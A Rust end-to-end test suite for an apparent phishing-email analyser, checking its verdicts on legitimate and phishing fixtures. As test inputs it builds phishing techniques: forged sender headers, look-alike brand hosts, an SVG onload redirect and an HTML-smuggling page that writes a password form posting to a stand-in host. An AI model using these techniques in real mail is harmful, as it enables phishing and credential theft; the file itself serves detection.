//! End-to-end tests: the real `kaibo` binary on the hand-made fixtures in `tests/fixtures/`.

use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures").join(name)
}

fn kaibo(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_kaibo"))
        .args(args)
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("LANG", "C.UTF-8")
        .output()
        .expect("kaibo runs")
}

fn kaibo_stdin(args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_kaibo"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("kaibo starts");
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

fn json(args: &[&str]) -> (i32, Value) {
    let out = kaibo(args);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "not JSON ({e}): {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code().unwrap(), v)
}

fn ids(v: &Value) -> Vec<String> {
    v["findings"].as_array().unwrap().iter().map(|f| f["id"].as_str().unwrap().to_string()).collect()
}

fn schema() -> jsonschema::Validator {
    let text = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../docs/json-schema.json"),
    )
    .unwrap();
    let schema: Value = serde_json::from_str(&text).unwrap();
    jsonschema::validator_for(&schema).expect("docs/json-schema.json is a valid schema")
}

const ALL_FIXTURES: &[&str] = &[
    "phish_seed_utf8.eml",
    "phish_seed_iso2022jp.eml",
    "bounce_postfix.eml",
    "notice_isp_ja.eml",
    "forward_phish_as_attachment.eml",
    "legit/card_statement_ja.eml",
    "legit/order_confirmation_ja.eml",
    "legit/password_reset_en.eml",
    "legit/newsletter_en.eml",
    "legit/list_post_en.eml",
];

#[test]
fn reference_case_is_phishing_with_the_analysts_evidence() {
    for name in ["phish_seed_utf8.eml", "phish_seed_iso2022jp.eml"] {
        let (code, v) = json(&["analyze", "--format", "json", fixture(name).to_str().unwrap()]);
        assert_eq!(code, 1, "{name}");
        assert_eq!(v["verdict"], "phishing", "{name}");
        let ids = ids(&v);
        for want in [
            "upstream.spam_stamp",
            "sender.display_name_spoof",
            "auth.dmarc_fail",
            "content.anonymous_signature",
        ] {
            assert!(ids.iter().any(|i| i == want), "{name}: {want} missing from {ids:?}");
        }
        assert!(ids.iter().any(|i| i.starts_with("lure.")), "{name}: no lure finding in {ids:?}");
        assert_eq!(v["message"]["subject"], "[spam] 未配信メッセージ (2)", "{name}");
        assert_eq!(v["message"]["from"]["name"], "postmaster@03.bounce..");
        assert_eq!(v["message"]["from"]["address"], "axh33983@biglobe.ne.jp");
        assert_eq!(v["authentication"]["dmarc"], "fail");
        assert_eq!(v["authentication"]["spf"], "softfail");
        let url = &v["observables"]["urls"][0];
        assert_eq!(url["host"], "mail-sync.aorz.ru");
        assert_eq!(url["registrable_domain"], "aorz.ru");
        assert_eq!(url["country"], "RU");
        assert_eq!(url["display_text"], "メッセージを受け取る >>");
        assert_eq!(v["hops"].as_array().unwrap().len(), 2);
        assert_eq!(v["hops"][1]["from_ip"], "185.220.101.47");
    }
}

/// Legitimate mail that reads like phishing: card statements, card-use and login notices,
/// shipping, delivery and payment notices, security alerts, invitations, shares, receipts and
/// one-time codes from the brands' own domains, a sign-up confirmation, a password change sent
/// through a bulk-mail service, a marketing mail, a mailing-list post, a friend's mail, a
/// business mail and a school notice in Japanese. Each stays clean, with the counter-evidence
/// that kept it so.
#[test]
fn legitimate_notices_newsletters_and_list_posts_are_clean() {
    const BRAND: &[&str] = &["auth.brand_domain_authenticated", "links.stay_with_sender"];
    const OWN_LINKS: &[&str] = &["links.stay_with_sender"];
    let cases: [(&str, &[&str]); 33] = [
        ("legit/card_statement_ja.eml", BRAND),
        // Brokers sending from their own domains, beside a group name (楽天, SMBC) whose other
        // companies use others.
        ("legit/login_notice_rakuten_sec_ja.eml", BRAND),
        ("legit/trade_smbc_nikko_ja.eml", BRAND),
        ("legit/order_confirmation_ja.eml", BRAND),
        ("legit/card_use_rakuten_ja.eml", BRAND),
        ("legit/card_confirm_smbc_ja.eml", BRAND),
        ("legit/delivery_yamato_ja.eml", BRAND),
        ("legit/shipped_amazon_ja.eml", BRAND),
        // Links to the brand's FAQ on another of its names (rakuten.net beside rakuten.co.jp).
        ("legit/login_notice_rakuten_ja.eml", BRAND),
        ("legit/notice_bank_ja.eml", OWN_LINKS),
        ("legit/order_shop_esp_ja.eml", OWN_LINKS),
        ("legit/password_reset_en.eml", OWN_LINKS),
        // A platform that relays users' content, sending its own alert linking only to itself.
        ("legit/security_alert_google_en.eml", OWN_LINKS),
        ("legit/security_alert_microsoft_en.eml", BRAND),
        ("legit/signin_apple_en.eml", BRAND),
        ("legit/payment_declined_netflix_en.eml", BRAND),
        // A failed payment and a suspension threat, both phishing's stories, from the provider.
        ("legit/payment_failed_aws_en.eml", BRAND),
        ("legit/shipping_amazon_en.eml", BRAND),
        ("legit/receipt_paypal_en.eml", OWN_LINKS),
        ("legit/invitation_github_en.eml", OWN_LINKS),
        ("legit/share_dropbox_en.eml", OWN_LINKS),
        ("legit/docusign_envelope_en.eml", OWN_LINKS),
        ("legit/calendar_invite_en.eml", &[]),
        // A meeting invitation answering to the person who scheduled it.
        ("legit/zoom_invite_en.eml", BRAND),
        // "Confirm your email address" with the address in the link: a sign-up, not a lure.
        ("legit/confirm_signup_en.eml", OWN_LINKS),
        // A bank's one-time code that tells the reader to call the number on the card.
        ("legit/bank_otp_en.eml", &["auth.brand_domain_authenticated"]),
        // A friend's plain Japanese mail with a map link, no authentication results at all.
        ("legit/personal_ja.eml", &[]),
        // Ordinary Japanese business and school mail: polite forms that Japanese phishing
        // copies, with nothing else to go on (the text model alone read both as phishing).
        ("legit/business_ja.eml", &[]),
        ("legit/school_notice_ja.eml", &[]),
        // Every link goes through the service's click tracking.
        ("legit/password_changed_sendgrid_en.eml", &["bulk.known_bulk_service"]),
        ("legit/newsletter_en.eml", &["bulk.authenticated_unsubscribe", "bulk.known_bulk_service"]),
        ("legit/list_post_en.eml", &[]),
        // The organisation's own mail system ("Microsoft Outlook") writing to one of its people.
        ("legit/quota_exchange_en.eml", &[]),
    ];
    for (name, expected) in cases {
        let (code, v) = json(&["analyze", "--format", "json", fixture(name).to_str().unwrap()]);
        assert_eq!(v["verdict"], "clean", "{name}: {v:#}");
        assert_eq!(code, 0, "{name}");
        for id in expected {
            assert!(ids(&v).contains(&id.to_string()), "{name} lacks {id}");
        }
        // Where the text model read the words of a proven sender, it is shown and not counted.
        if let Some(t) = v["findings"].as_array().unwrap().iter().find(|f| f["id"] == "content.text_model")
            && name.ends_with("_ja.eml")
            && !expected.is_empty()
        {
            assert_eq!(t["scored"], false, "{name}: {t:#}");
        }
    }
}

/// The header block of a fixture without the receiving server's Authentication-Results (a mail
/// saved by a client that drops them, an archive), edited by `edit`, analysed from stdin.
fn analyze_without_authentication_results(name: &str, edit: impl Fn(String) -> String) -> Value {
    let mail = without_authentication_results(name, edit);
    let out = kaibo_stdin(&["analyze", "--format", "json"], mail.as_bytes());
    let v: Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(out.status.code(), Some(if v["verdict"] == "clean" { 0 } else { 1 }), "{name}");
    v
}

fn without_authentication_results(name: &str, edit: impl Fn(String) -> String) -> String {
    let raw = std::fs::read_to_string(fixture(name)).unwrap();
    let (head, body) = raw.split_once("\n\n").unwrap();
    let mut kept: Vec<&str> = Vec::new();
    let mut skipping = false;
    for line in head.lines() {
        if line.starts_with([' ', '\t']) {
            if !skipping {
                kept.push(line);
            }
            continue;
        }
        let field = line.split(':').next().unwrap_or("").to_ascii_lowercase();
        skipping = field == "authentication-results" || field.starts_with("arc-") || field == "received-spf";
        if !skipping {
            kept.push(line);
        }
    }
    edit(format!("{}\n\n{body}", kept.join("\n")))
}

/// Brand notices with no Authentication-Results at all: the mail's own signs (From in the
/// brand's domain, the brand's servers in the receiving server's Received line, every link to
/// the brand) set the text model aside, and they stay clean. A forged hand-over or a link
/// elsewhere takes that away.
#[test]
fn brand_notices_without_authentication_results_are_clean_by_their_own_signs() {
    for name in [
        "legit/card_use_rakuten_ja.eml",
        "legit/card_confirm_smbc_ja.eml",
        "legit/login_notice_rakuten_ja.eml",
        "legit/login_notice_rakuten_sec_ja.eml",
        "legit/trade_smbc_nikko_ja.eml",
        "legit/delivery_yamato_ja.eml",
        "legit/shipped_amazon_ja.eml",
        "legit/card_statement_ja.eml",
        "legit/security_alert_microsoft_en.eml",
        "legit/docusign_envelope_en.eml",
        "legit/payment_declined_netflix_en.eml",
        "legit/payment_failed_aws_en.eml",
    ] {
        let v = analyze_without_authentication_results(name, |m| m);
        assert_eq!(v["authentication"]["dmarc"], Value::Null, "{name}");
        assert_eq!(v["verdict"], "clean", "{name}: {v:#}");
        assert!(ids(&v).contains(&"links.stay_with_brand".to_string()), "{name}");
    }

    // The provider's failed-payment warning tells two credential stories; with every link on
    // its own site they are shown, and not counted, with the reason.
    let v = analyze_without_authentication_results("legit/payment_failed_aws_en.eml", |m| m);
    for id in ["lure.payment_problem", "lure.account_suspension", "lure.combined"] {
        let f = v["findings"].as_array().unwrap().iter().find(|f| f["id"] == id).expect(id);
        assert_eq!(f["scored"], false, "{id}: {f:#}");
        let reason =
            f["evidence"].as_array().unwrap().iter().find(|e| e["source"] == "not counted").expect(id);
        assert!(reason["value"].as_str().unwrap().starts_with("links.stay_with_brand:"), "{reason:#}");
    }
    // A link to the provider's own site that forwards elsewhere (an open redirect) is a way out:
    // no counter-evidence, and the stories count.
    let v = analyze_without_authentication_results("legit/payment_failed_aws_en.eml", |m| {
        m.replace(
            "https://console.aws.amazon.com/billing/home#/paymentmethods",
            "https://console.aws.amazon.com/redirect?target=https%3A%2F%2Faws-billing.example.net%2Fpay",
        )
    });
    assert!(!ids(&v).contains(&"links.stay_with_brand".to_string()), "{v:#}");
    let payment =
        v["findings"].as_array().unwrap().iter().find(|f| f["id"] == "lure.payment_problem").unwrap();
    assert_eq!(payment["scored"], true, "{payment:#}");
    assert_ne!(v["verdict"], "clean", "{v:#}");

    // The same card notice, handed over by a host that is not Rakuten's: the From is forged as
    // far as the mail can tell, and the text model counts.
    let forge = |m: String| {
        m.replace(
            "from mta-rc12.mail.rakuten-card.co.jp (mta-rc12.mail.rakuten-card.co.jp [203.0.113.112])",
            "from mta-rc12.mail.rakuten-card.co.jp (v118-27-72-97.static.cnode.example [118.27.72.97])",
        )
    };
    let v = analyze_without_authentication_results("legit/card_use_rakuten_ja.eml", forge);
    assert_eq!(v["hops"][0]["from_rdns"], "v118-27-72-97.static.cnode.example");
    // The route shows the looked-up name beside the claimed one.
    let forged = without_authentication_results("legit/card_use_rakuten_ja.eml", forge);
    let text = String::from_utf8(kaibo_stdin(&["analyze"], forged.as_bytes()).stdout).unwrap();
    assert!(
        text.contains(
            "mta-rc12[.]mail[.]rakuten-card[.]co[.]jp (v118-27-72-97.static.cnode.example) [118.27.72.97]"
        ),
        "{text}"
    );
    assert!(!ids(&v).contains(&"links.stay_with_brand".to_string()), "{v:#}");
    let text_model = v["findings"].as_array().unwrap().iter().find(|f| f["id"] == "content.text_model");
    assert_eq!(text_model.map(|f| f["scored"].clone()), Some(Value::Bool(true)), "{v:#}");
    assert_ne!(v["verdict"], "clean");

    // Through a mailing list: the receiving server took it from the list's host, and what the
    // list was handed is the list's word, not the receiving server's.
    let v = analyze_without_authentication_results("legit/card_use_rakuten_ja.eml", |m| {
        format!(
            "Received: from lists.example.net (lists.example.net [198.51.100.80])\n\tby mx01.example.co.jp \
             (Postfix) with ESMTPS id 0A0B0C0D0E\n\tfor <hanako@example.co.jp>; Sat, 12 Oct 2024 19:42:15 +0900 \
             (JST)\n{m}"
        )
    });
    assert_eq!(v["hops"][0]["from_rdns"], "lists.example.net");
    assert!(!ids(&v).contains(&"links.stay_with_brand".to_string()), "{v:#}");

    // Links to a domain that is not Amazon's: no counter-evidence.
    let v = analyze_without_authentication_results("legit/shipping_amazon_en.eml", |m| {
        m.replace("https://www.amazon.com/gp/", "https://amazon-track.example.net/gp/")
    });
    assert!(!ids(&v).contains(&"links.stay_with_brand".to_string()), "{v:#}");
}

/// "Microsoft Outlook" in the organisation's own, authenticated domain, to one of its people, is
/// the organisation's mail system; unauthenticated, or addressed to its own sender (the real
/// recipients in Bcc), it is a stranger naming Microsoft.
#[test]
fn own_organisations_mail_system_may_name_its_platform() {
    let (_, v) =
        json(&["analyze", "--format", "json", fixture("legit/quota_exchange_en.eml").to_str().unwrap()]);
    assert!(!ids(&v).contains(&"sender.brand_impersonation".to_string()), "{v:#}");
    let v = analyze_without_authentication_results("legit/quota_exchange_en.eml", |m| m);
    assert!(ids(&v).contains(&"sender.brand_impersonation".to_string()), "{v:#}");
    let raw = std::fs::read_to_string(fixture("legit/quota_exchange_en.eml")).unwrap();
    let to_itself = raw.replace(
        "To: Frank Lee <frank@contoso-example.com>",
        "To: MicrosoftExchange329e71ec88ae4615bbc36ab6ce41109e@contoso-example.com",
    );
    let out = kaibo_stdin(&["analyze", "--format", "json"], to_itself.as_bytes());
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(ids(&v).contains(&"sender.brand_impersonation".to_string()), "{v:#}");
}

/// A From in the brand's own domain excuses links elsewhere unless the results say DMARC failed:
/// a forged one sending the reader to another site is a brand mismatch. A Gmail user (Google owns
/// gmail.com, DMARC passes, yet it proves no one) naming Google is not a forgery.
#[test]
fn forged_brand_sender_linking_elsewhere_is_a_brand_mismatch() {
    let raw = std::fs::read_to_string(fixture("legit/shipping_amazon_en.eml")).unwrap();
    let moved = raw.replace("https://www.amazon.com/gp/", "https://amazon-track.example.net/gp/");
    let analyse = |mail: &str| -> Value {
        serde_json::from_slice(&kaibo_stdin(&["analyze", "--format", "json"], mail.as_bytes()).stdout)
            .unwrap()
    };
    // Proven, the brand may link where it likes.
    assert!(!ids(&analyse(&moved)).contains(&"content.brand_mismatch".to_string()));
    let forged = moved
        .replace(
            "\tspf=pass smtp.mailfrom=bounces.amazon.com;",
            "\tspf=fail smtp.mailfrom=bounces.amazon.com;",
        )
        .replace(
            "\tdkim=pass header.d=amazon.com header.i=@amazon.com;\n\tdkim=pass header.d=amazonses.com;",
            "\tdkim=none;",
        )
        .replace("dmarc=pass (p=QUARANTINE", "dmarc=fail (p=QUARANTINE");
    assert!(forged.contains("dmarc=fail"), "{forged}");
    let v = analyse(&forged);
    assert!(ids(&v).contains(&"content.brand_mismatch".to_string()), "{v:#}");
    assert_ne!(v["verdict"], "clean");

    let friend = "Authentication-Results: mx.example.org;\n\tspf=pass smtp.mailfrom=gmail.com;\n\t\
                  dkim=pass header.d=gmail.com;\n\tdmarc=pass (p=NONE) header.from=gmail.com\n\
                  From: Jenny Park <jenny.park.1987@gmail.com>\nTo: frank@example.org\n\
                  Subject: the Google talk\nDate: Wed, 20 Nov 2024 14:14:58 -0800\n\
                  Message-ID: <CAF=abc@mail.gmail.com>\n\n\
                  Hi Frank, the slides of my talk at the Google developer meetup are on my blog:\n\
                  https://jenny-park.example.net/talks/2024-meetup\n\nJenny\n";
    let v = analyse(friend);
    assert!(!ids(&v).contains(&"content.brand_mismatch".to_string()), "{v:#}");
}

/// The brand's real domain written at the front of someone else's host is named as such, with
/// the domain the site really belongs to.
#[test]
fn brand_domain_written_into_another_host_is_named() {
    let v = analyze_without_authentication_results("legit/shipping_amazon_en.eml", |m| {
        m.replace("https://www.amazon.com/gp/", "https://www.amazon.com.order-status.example.net/gp/")
    });
    let finding = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "links.brand_domain_in_host")
        .unwrap_or_else(|| panic!("{v:#}"));
    let evidence = |source: &str| {
        finding["evidence"].as_array().unwrap().iter().find(|e| e["source"] == source).unwrap()["value"]
            .clone()
    };
    assert_eq!(evidence("site belongs to"), "example.net");
    assert!(evidence("brand domain shown").as_str().unwrap().starts_with("amazon.com ("), "{finding:#}");
    assert!(!ids(&v).contains(&"links.stay_with_brand".to_string()), "{v:#}");
    assert_ne!(v["verdict"], "clean", "{v:#}");
    // The brand's own hosts are not: the untouched notice has no such finding.
    let v = analyze_without_authentication_results("legit/shipping_amazon_en.eml", |m| m);
    assert!(!ids(&v).contains(&"links.brand_domain_in_host".to_string()), "{v:#}");
}

#[test]
fn genuine_bounce_and_isp_notice_are_clean() {
    for name in ["bounce_postfix.eml", "notice_isp_ja.eml"] {
        let (code, v) = json(&["analyze", "--format", "json", fixture(name).to_str().unwrap()]);
        assert_eq!(v["verdict"], "clean", "{name}: {v:#}");
        assert_eq!(code, 0, "{name}");
    }
    let (_, bounce) = json(&["analyze", "--format", "json", fixture("bounce_postfix.eml").to_str().unwrap()]);
    assert!(ids(&bounce).contains(&"structure.delivery_status_report".to_string()));
    // The returned original is the recipient's own mail: its link is not an observable.
    assert!(bounce["observables"]["urls"].as_array().unwrap().is_empty());
    let (_, notice) = json(&["analyze", "--format", "json", fixture("notice_isp_ja.eml").to_str().unwrap()]);
    // DMARC passed, but biglobe.ne.jp is also a consumer ISP domain: a pass proves only a
    // BIGLOBE account, so it is shown and not counted as counter-evidence. The notice comes from
    // mail.biglobe.ne.jp, the provider's own system, and links only there.
    assert_eq!(notice["authentication"]["dmarc"], "pass");
    assert!(!ids(&notice).contains(&"auth.dmarc_pass".to_string()));
    assert!(ids(&notice).contains(&"links.stay_with_sender".to_string()));
    assert_eq!(notice["message"]["subject"], "【BIGLOBE】メールサーバーメンテナンスのお知らせ");
}

#[test]
fn forwarded_phish_is_analysed_as_the_attached_mail() {
    let (code, v) =
        json(&["analyze", "--format", "json", fixture("forward_phish_as_attachment.eml").to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(v["analysed"]["kind"], "attached_message");
    assert_eq!(v["analysed"]["wrapper_subject"], "Fw: suspicious mail");
    assert_eq!(v["message"]["from"]["address"], "axh33983@biglobe.ne.jp");
    assert_eq!(v["verdict"], "phishing");
    assert!(ids(&v).contains(&"structure.forwarded_attachment".to_string()));
    let text = String::from_utf8(
        kaibo(&["analyze", fixture("forward_phish_as_attachment.eml").to_str().unwrap()]).stdout,
    )
    .unwrap();
    assert!(text.contains("forwards another mail as an attachment"), "{text}");
}

#[test]
fn every_fixture_validates_against_the_json_schema() {
    let validator = schema();
    for name in ALL_FIXTURES {
        let (_, v) = json(&["analyze", "--format", "json", fixture(name).to_str().unwrap()]);
        let errors: Vec<String> =
            validator.iter_errors(&v).map(|e| format!("{} at {}", e, e.instance_path())).collect();
        assert!(errors.is_empty(), "{name}: {errors:#?}");
    }
}

#[test]
fn ignore_upstream_verdicts_keeps_them_visible_but_unscored() {
    let path = fixture("phish_seed_utf8.eml");
    let (_, with) = json(&["analyze", "--format", "json", path.to_str().unwrap()]);
    let (code, without) =
        json(&["analyze", "--format", "json", "--ignore-upstream-verdicts", path.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert_eq!(without["verdict"], "phishing", "kaibo's own judgement alone must still say phishing");
    let stamp =
        without["findings"].as_array().unwrap().iter().find(|f| f["id"] == "upstream.spam_stamp").unwrap();
    assert_eq!(stamp["scored"], false);
    let upstream_weight: i64 = with["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["category"] == "upstream")
        .map(|f| f["weight"].as_i64().unwrap())
        .sum();
    assert_eq!(with["score"].as_i64().unwrap() - without["score"].as_i64().unwrap(), upstream_weight);
}

#[test]
fn text_report_reads_like_a_write_up_and_defangs() {
    let out = kaibo(&["analyze", fixture("phish_seed_utf8.eml").to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    let order = [
        "== Headers ==",
        "== Sender ==",
        "== Content ==",
        "== Links ==",
        "== Verdict ==",
        "== Advice for the recipient ==",
    ];
    let mut last = 0;
    for h in order {
        let at = text.find(h).unwrap_or_else(|| panic!("{h} missing:\n{text}"));
        assert!(at >= last, "{h} out of order");
        last = at;
    }
    assert!(text.contains("PHISHING"));
    assert!(text.contains("hxxps://mail-sync[.]aorz[.]ru/"), "{text}");
    assert!(!text.contains("https://mail-sync.aorz.ru"), "a live URL leaked into the text report");
    assert!(!text.contains("\x1b["), "no colour when stdout is not a terminal");
    let raw = String::from_utf8(
        kaibo(&["analyze", "--no-defang", fixture("phish_seed_utf8.eml").to_str().unwrap()]).stdout,
    )
    .unwrap();
    assert!(raw.contains("https://mail-sync.aorz.ru/"));
    let coloured = String::from_utf8(
        kaibo(&["analyze", "--color", "always", fixture("phish_seed_utf8.eml").to_str().unwrap()]).stdout,
    )
    .unwrap();
    assert!(coloured.contains("\x1b["));
}

#[test]
fn japanese_report_by_flag_and_by_locale() {
    let by_flag = String::from_utf8(
        kaibo(&["analyze", "--lang", "ja", fixture("phish_seed_utf8.eml").to_str().unwrap()]).stdout,
    )
    .unwrap();
    assert!(by_flag.contains("== 差出人 =="), "{by_flag}");
    assert!(by_flag.contains("フィッシング"));
    assert!(by_flag.contains("表示名に、実際の差出人アドレスとは別のアドレス"));
    let by_locale = Command::new(env!("CARGO_BIN_EXE_kaibo"))
        .args(["analyze", fixture("phish_seed_utf8.eml").to_str().unwrap()])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env("LANG", "ja_JP.UTF-8")
        .output()
        .unwrap();
    assert!(String::from_utf8(by_locale.stdout).unwrap().contains("== 受信者へのアドバイス =="));
}

#[test]
fn reads_standard_input() {
    let raw = std::fs::read(fixture("bounce_postfix.eml")).unwrap();
    for args in [&["analyze", "--format", "json"][..], &["analyze", "--format", "json", "-"][..]] {
        let out = kaibo_stdin(args, &raw);
        assert_eq!(out.status.code(), Some(0));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["verdict"], "clean");
    }
}

#[test]
fn errors_exit_2_with_one_line_on_stderr() {
    let dir = std::env::temp_dir().join(format!("kaibo-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let png = dir.join("image.png");
    std::fs::write(&png, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00").unwrap();
    let prose = dir.join("prose.txt");
    std::fs::write(&prose, "This is a letter, not an email file.\nRegards\n").unwrap();
    let empty = dir.join("empty.eml");
    std::fs::write(&empty, "").unwrap();
    let cases: Vec<(Vec<String>, &str)> = vec![
        (vec!["analyze".into(), dir.join("missing.eml").display().to_string()], "No such file"),
        (vec!["analyze".into(), png.display().to_string()], "not an email"),
        (vec!["analyze".into(), prose.display().to_string()], "not an email"),
        (vec!["analyze".into(), empty.display().to_string()], "empty"),
        (vec!["analyze".into(), dir.display().to_string()], "directory"),
        (
            vec![
                "analyze".into(),
                "--max-size".into(),
                "100".into(),
                fixture("phish_seed_utf8.eml").display().to_string(),
            ],
            "larger than the limit",
        ),
    ];
    for (args, want) in cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = kaibo(&args);
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(want), "{args:?}: {stderr}");
        assert_eq!(stderr.trim_end().lines().count(), 1, "{args:?}: {stderr}");
        assert!(stderr.starts_with("kaibo: error: "));
        assert!(out.stdout.is_empty());
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn embedded_sample_is_the_reference_case() {
    let out = kaibo(&["sample"]);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(out.stdout, std::fs::read(fixture("phish_seed_utf8.eml")).unwrap());
    let (code, v) = json(&["analyze", "--sample", "--format", "json"]);
    assert_eq!(code, 1);
    assert_eq!(v["verdict"], "phishing");
}

#[test]
fn malformed_mail_is_analysed_best_effort_with_the_defect_named() {
    let raw = b"From: \"Support\" <help@example.com>\r\nSubject: test\r\nContent-Type: multipart/mixed; boundary=\"abc\"\r\n\r\n--abc\r\nContent-Type: text/html\r\n\r\n<p>Verify your account <a href=\"http://198.51.100.7/login\">now</a>\r\n";
    let out = kaibo_stdin(&["analyze", "--format", "json"], raw);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(ids(&v).contains(&"structure.malformed".to_string()), "{v:#}");
    assert!(
        v["defects"].as_array().unwrap().iter().any(|d| d.as_str().unwrap().contains("closing boundary"))
    );
    assert!(ids(&v).contains(&"links.ip_literal_host".to_string()));
}

/// A mail with one attachment, for the attachment tests.
fn mail_with_attachment(name: &str, ctype: &str, content: &str) -> Vec<u8> {
    use base64::Engine as _;
    let body = base64::engine::general_purpose::STANDARD.encode(content);
    format!(
        "From: \"Voice Mail\" <voicemail@pbx.example.net>\r\nTo: sales@example.org\r\nSubject: New voicemail 00:47\r\n\
         Date: Mon, 17 Nov 2025 08:01:00 +0000\r\nMessage-ID: <vm1@pbx.example.net>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         You have a new voice message. Open the attachment to listen.\r\n--b1\r\nContent-Type: {ctype}; name=\"{name}\"\r\n\
         Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n--b1--\r\n"
    )
    .into_bytes()
}

fn finding<'a>(v: &'a Value, id: &str) -> Option<&'a Value> {
    v["findings"].as_array().unwrap().iter().find(|f| f["id"] == id)
}

#[test]
fn attachment_scripts_that_redirect_or_smuggle_a_page_are_named() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    // An SVG whose onload handler sends the browser to an address written in base64.
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.location.href=atob('{}')\"><text>Play</text></svg>",
        b64("https://vm-audio.example.xyz/play?id=7")
    );
    let out = kaibo_stdin(
        &["analyze", "--format", "json", "-"],
        &mail_with_attachment("VM_0047.svg", "image/svg+xml", &svg),
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let f = finding(&v, "attachment.html_script").unwrap_or_else(|| panic!("{v:#}"));
    let text = f["evidence"].to_string();
    assert!(text.contains("location.href =") && text.contains("atob()"), "{f:#}");
    assert!(text.contains("https://vm-audio.example.xyz/play?id=7"), "{f:#}");
    assert!(v["observables"]["urls"].to_string().contains("vm-audio.example.xyz"), "{v:#}");
    assert_ne!(v["verdict"], "clean");

    // HTML smuggling: the page is written by the script from base64; its form is read too.
    let page = b64(
        "<html><body><form action=\"https://kit.example.top/p.php\"><input type=\"password\" name=\"p\"></form></body></html>",
    );
    let html = format!("<html><body><script>document.write(atob(\"{page}\"));</script></body></html>");
    let out = kaibo_stdin(
        &["analyze", "--format", "json", "-"],
        &mail_with_attachment("Remittance.htm", "text/html", &html),
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(finding(&v, "attachment.html_script").is_some(), "{v:#}");
    assert!(ids(&v).contains(&"content.html_form".to_string()), "{v:#}");
    assert!(v["observables"]["urls"].to_string().contains("kit.example.top"), "{v:#}");

    // A saved web page with an analytics snippet, a pop-up helper and a button that waits for a
    // click does nothing on opening.
    let saved = r#"<html><head><script>var h = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
        document.write(unescape("%3Cscript src='" + h + "google-analytics.com/ga.js'%3E%3C/script%3E"));
        function pop(p) { var w = window.open(p, 'n', 'height=400'); w.focus(); }</script></head>
        <body onLoad="window.focus();"><p>Quarterly figures</p>
        <button onclick="location.href='https://reports.example.com/q3'">Open the full report</button></body></html>"#;
    let out = kaibo_stdin(
        &["analyze", "--format", "json", "-"],
        &mail_with_attachment("figures.html", "text/html", saved),
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(finding(&v, "attachment.html_script").is_none(), "{v:#}");
}

#[test]
fn a_display_name_claiming_the_recipients_own_domain_is_a_spoof() {
    let mail = |from: &str, to: &str| {
        format!(
            "From: {from}\r\nTo: {to}\r\nSubject: Password expiry notice\r\nDate: Tue, 14 Oct 2025 10:00:00 +0000\r\n\
             Message-ID: <pw1@example.net>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
             Your password expires today. Contact the service desk if you need help.\r\n"
        )
        .into_bytes()
    };
    let analyse = |m: Vec<u8>| -> Value {
        serde_json::from_slice(&kaibo_stdin(&["analyze", "--format", "json", "-"], &m).stdout).unwrap()
    };
    // A kit fills the recipient's domain into the name over its own address.
    let v = analyse(mail("\"monkey.org IT Support\" <support@bakery-lane.example.com>", "jose@monkey.org"));
    let f = finding(&v, "sender.display_name_spoof").unwrap_or_else(|| panic!("{v:#}"));
    assert!(f["evidence"].to_string().contains("\"monkey.org\""), "{f:#}");
    // The organisation's own system may name itself; a free-mail domain names no organisation.
    let v = analyse(mail("\"monkey.org IT Support\" <helpdesk@it.monkey.org>", "jose@monkey.org"));
    assert!(finding(&v, "sender.display_name_spoof").is_none(), "{v:#}");
    let v = analyse(mail("\"gmail.com fan club\" <club@fans.example.com>", "jose@gmail.com"));
    assert!(finding(&v, "sender.display_name_spoof").is_none(), "{v:#}");
}
